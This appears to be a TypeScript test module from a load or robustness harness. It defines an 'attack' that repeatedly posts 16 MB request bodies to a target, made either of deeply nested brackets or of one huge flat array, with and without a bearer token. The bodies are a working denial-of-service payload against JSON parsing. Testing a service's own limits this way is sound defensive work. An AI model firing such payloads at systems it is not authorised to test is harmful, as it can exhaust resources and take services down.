/** Sixteen megabytes of brackets, by somebody who is known and by somebody who is not. */
import { flood, post, type Attack } from './attack.js';

const half = 8 * 1024 * 1024;
const nested = `${'['.repeat(half)}${']'.repeat(half)}`;
const beside = `[${'[],'.repeat(5 * 1024 * 1024)}[]]`;

export const bodies: Attack = {
  name: 'bodies of brackets, 16 MB',
  run: (target) =>
    flood(2, (round) => {
      const headers: Record<string, string> = round % 3 === 0 ? {} : { authorization: `Bearer ${target.token}` };
      return post(target, round % 2 === 0 ? nested : beside, headers);
    }),
};
